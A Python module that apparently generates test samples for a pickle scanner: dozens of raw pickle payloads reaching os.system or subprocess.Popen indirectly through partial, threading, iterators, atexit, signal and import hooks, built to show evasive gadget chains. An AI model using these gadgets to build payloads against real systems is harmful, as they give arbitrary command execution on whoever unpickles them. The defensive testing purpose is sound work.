"""Raw pickles whose dangerous callable is an argument: higher-order functions, callbacks, lazy iterators, late hooks."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from .asm import Build, Call, Get, Global, Memo, New, Raw, Then, encode
from .sample import Kit, Sample, gadget

G, C = Global, Call
SYSTEM = G("os.system")
_NAMED = ("os.system", "posix.system")


def samples() -> list[Sample]:
    """All of this module."""
    return [*_callers(), *_bound(), *_lazy(), *_late()]


def _all(technique: str, entries: dict[str, Callable[[Kit], Any]], **options: Any) -> list[Sample]:
    return [
        gadget(f"indirect-{name}", technique, build, **{"calls": _NAMED, **options}) for name, build in entries.items()
    ]


def _partial(kit: Kit) -> Call:
    return C(G("functools.partial"), SYSTEM, kit.shell)


def _any_arguments(kit: Kit) -> Call:
    """A callback that runs the payload whatever further arguments it is given."""
    return C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (kit.shell,))


def _callers() -> list[Sample]:
    entries: dict[str, Callable[[Kit], Any]] = {
        "copy-reconstruct": lambda k: C(G("copy._reconstruct"), None, None, SYSTEM, (k.shell,)),
        "operator-call": lambda k: C(G("operator.call"), SYSTEM, k.shell),
        "reduce": lambda k: C(G("functools.reduce"), G("operator.call"), [SYSTEM, k.shell]),
        "nlargest": lambda k: C(G("heapq.nlargest"), 1, [k.shell, k.shell], SYSTEM),
        "nsmallest": lambda k: C(G("heapq.nsmallest"), 1, [k.shell, k.shell], SYSTEM),
        "sequence-matcher": lambda k: C(G("difflib.SequenceMatcher"), SYSTEM, [], [k.shell]),
        "mapstar": lambda k: C(G("multiprocessing.pool.mapstar"), (SYSTEM, [k.shell])),
        "starmapstar": lambda k: C(G("multiprocessing.pool.starmapstar"), (SYSTEM, [(k.shell,)])),
        "process-chunk": lambda k: C(G("concurrent.futures.process._process_chunk"), SYSTEM, [(k.shell,)]),
        "timer-run": lambda k: C(G("threading", "Timer.run"), C(G("threading.Timer"), 0, SYSTEM, [k.shell])),
        "thread-run": lambda k: C(
            G("threading", "Thread.run"), C(G("threading.Thread"), None, SYSTEM, None, (k.shell,))
        ),
        "thread-start": lambda k: C(
            G("threading", "Thread.start"), C(G("threading.Thread"), None, SYSTEM, None, (k.shell,))
        ),
        "thread-low-level": lambda k: C(G("_thread.start_new_thread"), SYSTEM, (k.shell,)),
        "executor-submit": lambda k: C(
            G("concurrent.futures", "ThreadPoolExecutor.submit"),
            C(G("concurrent.futures.ThreadPoolExecutor"), 1),
            SYSTEM,
            k.shell,
        ),
        "process-run": lambda k: C(
            G("multiprocessing.process", "BaseProcess.run"),
            C(G("multiprocessing.context.Process"), None, SYSTEM, None, (k.shell,)),
        ),
        "pool-initializer": lambda k: C(G("multiprocessing.pool.ThreadPool"), 1, SYSTEM, (k.shell,)),
        "singledispatch": lambda k: C(C(G("functools.singledispatch"), SYSTEM), k.shell),
        "lru-cache": lambda k: C(C(G("functools.lru_cache"), SYSTEM), k.shell),
        "test-case": lambda k: C(
            G("unittest.case", "FunctionTestCase.runTest"), C(G("unittest.case.FunctionTestCase"), _partial(k))
        ),
        "exit-stack": lambda k: Then(
            C(G("contextlib", "ExitStack.callback"), Memo(1, C(G("contextlib.ExitStack"))), SYSTEM, k.shell),
            C(G("contextlib", "ExitStack.close"), Get(1)),
        ),
        "sched": lambda k: Then(
            C(G("sched", "scheduler.enter"), Memo(1, C(G("sched.scheduler"))), 0, 0, SYSTEM, (k.shell,)),
            C(G("sched", "scheduler.run"), Get(1)),
        ),
        "asyncio-handle": lambda k: C(
            G("asyncio.events", "Handle._run"),
            C(G("asyncio.events.Handle"), SYSTEM, (k.shell,), C(G("asyncio.new_event_loop"))),
        ),
        "sorted-key": lambda k: C(
            Build(
                C(G("functools.partial"), G("builtins.sorted")),
                (G("builtins.sorted"), ([k.shell],), {"key": SYSTEM}, None),
            )
        ),
        "min-key": lambda k: C(
            Build(
                C(G("functools.partial"), G("builtins.min")),
                (G("builtins.min"), ([k.shell, "true"],), {"key": SYSTEM}, None),
            )
        ),
    }
    return _all("a function that calls its argument", entries)


def _bound() -> list[Sample]:
    entries: dict[str, Callable[[Kit], Any]] = {
        "partial": lambda k: C(_partial(k)),
        "partial-setstate": lambda k: C(
            Build(C(G("functools.partial"), G("builtins.print")), (SYSTEM, (k.shell,), {}, None))
        ),
        "partialmethod": lambda k: C(
            C(G("functools", "partialmethod.__get__"), C(G("functools.partialmethod"), SYSTEM), k.shell)
        ),
        "method-type": lambda k: C(C(G("types.MethodType"), SYSTEM, k.shell)),
        "method-type-reduce": lambda k: C(
            C(G("builtins.getattr"), C(G("types.MethodType"), SYSTEM, k.shell), "__call__")
        ),
        "methodcaller": lambda k: C(
            C(G("operator.methodcaller"), "system", k.shell), C(G("importlib.import_module"), "os")
        ),
        "attrgetter": lambda k: C(
            C(C(G("operator.attrgetter"), "system"), C(G("importlib.import_module"), "os")), k.shell
        ),
        "attrgetter-deep": lambda k: C(
            C(C(G("operator.attrgetter"), "os.system"), C(G("importlib.import_module"), "shutil")), k.shell
        ),
        "itemgetter": lambda k: C(C(C(G("operator.itemgetter"), "system"), G("os.__dict__")), k.shell),
        "dict-get": lambda k: C(C(G("builtins", "dict.get"), G("os.__dict__"), "system"), k.shell),
        "getattribute": lambda k: C(
            C(G("os", "__class__.__getattribute__"), C(G("builtins.__import__"), "os"), "system"), k.shell
        ),
        "property-get": lambda k: C(G("builtins", "property.__get__"), C(G("builtins.property"), SYSTEM), k.shell),
        "dynamic-class-attribute": lambda k: C(
            G("types", "DynamicClassAttribute.__get__"), C(G("types.DynamicClassAttribute"), SYSTEM), k.shell
        ),
        "call-slot": lambda k: C(G("types", "BuiltinFunctionType.__call__"), SYSTEM, k.shell),
        "weak-method-finalize": lambda k: C(C(G("weakref.finalize"), G("collections.OrderedDict"), SYSTEM, k.shell)),
    }
    named = (
        *_NAMED,
        "operator.methodcaller",
        "operator.attrgetter",
        "operator.itemgetter",
        "os.__dict__",
        "importlib.import_module",
        "os.__class__.__getattribute__",
        "builtins.__import__",
    )
    return _all("the dangerous callable is wrapped or looked up by a string first", entries, calls=named)


def _lazy() -> list[Sample]:
    mapped = lambda k: C(G("builtins.map"), SYSTEM, [k.shell])
    entries: dict[str, Callable[[Kit], Any]] = {
        "map-list": lambda k: C(G("builtins.list"), mapped(k)),
        "map-tuple-newobj": lambda k: New(G("builtins.tuple"), mapped(k)),
        "map-bytes-newobj": lambda k: New(G("builtins.bytes"), mapped(k)),
        "map-frozenset": lambda k: New(G("builtins.frozenset"), mapped(k)),
        "map-deque": lambda k: C(G("collections.deque"), mapped(k)),
        "map-any": lambda k: C(G("builtins.any"), mapped(k)),
        "map-sum": lambda k: C(G("builtins.sum"), mapped(k)),
        "map-ordered-dict": lambda k: C(G("collections.OrderedDict"), C(G("builtins.zip"), mapped(k), [1])),
        "map-counter": lambda k: C(G("collections.Counter"), mapped(k)),
        "map-array": lambda k: C(G("array.array"), "l", mapped(k)),
        "map-extend": lambda k: C(G("builtins", "list.extend"), [], mapped(k)),
        "map-build-state": lambda k: Build(C(G("collections.deque")), ({}, {"x": C(G("builtins.next"), mapped(k))})),
        "filter": lambda k: C(G("builtins.list"), C(G("builtins.filter"), SYSTEM, [k.shell])),
        "iter-sentinel": lambda k: C(G("builtins.next"), C(G("builtins.iter"), _partial(k), 99)),
        "starmap": lambda k: C(G("builtins.list"), C(G("itertools.starmap"), SYSTEM, [(k.shell,)])),
        "accumulate": lambda k: C(
            G("builtins.list"), C(G("itertools.accumulate"), [SYSTEM, k.shell], G("operator.call"))
        ),
        "takewhile": lambda k: C(G("builtins.list"), C(G("itertools.takewhile"), SYSTEM, [k.shell])),
        "dropwhile": lambda k: C(G("builtins.list"), C(G("itertools.dropwhile"), SYSTEM, [k.shell])),
        "filterfalse": lambda k: C(G("builtins.list"), C(G("itertools.filterfalse"), SYSTEM, [k.shell])),
        "groupby": lambda k: C(G("builtins.list"), C(G("itertools.groupby"), [k.shell], SYSTEM)),
        "defaultdict": lambda k: C(G("operator.getitem"), C(G("collections.defaultdict"), _partial(k)), "missing"),
        "chain-map": lambda k: C(G("builtins.list"), C(G("itertools.chain"), mapped(k))),
        "pool-map": lambda k: C(
            G("builtins.list"),
            C(
                G("concurrent.futures", "ThreadPoolExecutor.map"),
                C(G("concurrent.futures.ThreadPoolExecutor"), 1),
                SYSTEM,
                [k.shell],
            ),
        ),
        "appends-listlike": lambda k: Raw(
            encode(C(G("collections.deque")), 4) + b"(" + encode(C(G("builtins.next"), mapped(k)), 4) + b"e"
        ),
    }
    return _all("a lazy iterator that something else consumes", entries)


def _late() -> list[Sample]:
    entries: dict[str, Callable[[Kit], Any]] = {
        "atexit": lambda k: C(G("atexit.register"), SYSTEM, k.shell),
        "finalize-at-exit": lambda k: C(G("weakref.finalize"), G("collections.OrderedDict"), SYSTEM, k.shell),
        "multiprocessing-finalize": lambda k: C(G("multiprocessing.util.Finalize"), None, SYSTEM, (k.shell,), {}, 1),
        "codec-search": lambda k: Then(
            C(G("codecs.register"), C(G("functools.partial"), G("subprocess.Popen"), k.argv, -1)),
            C(G("codecs.lookup"), "touch"),
        ),
        "threading-atexit": lambda k: C(G("threading._register_atexit"), SYSTEM, k.shell),
        "signal-handler": lambda k: Then(C(G("signal.signal"), 14, _any_arguments(k)), C(G("signal.raise_signal"), 14)),
        "gc-callback": lambda k: Then(
            C(G("builtins", "list.append"), G("gc.callbacks"), _any_arguments(k)), C(G("gc.collect"))
        ),
        "import-hook": lambda k: Then(
            C(G("builtins", "list.append"), G("sys.path_hooks"), SYSTEM),
            C(G("builtins", "list.append"), G("sys.path"), k.shell),
            C(G("importlib.util.find_spec"), "a_module_that_is_not_there"),
        ),
    }
    named = (*_NAMED, "subprocess.Popen", "copy._reconstruct", "sys.path_hooks")
    return _all("the call happens later: at exit, on a signal, on a hook", entries, calls=named)
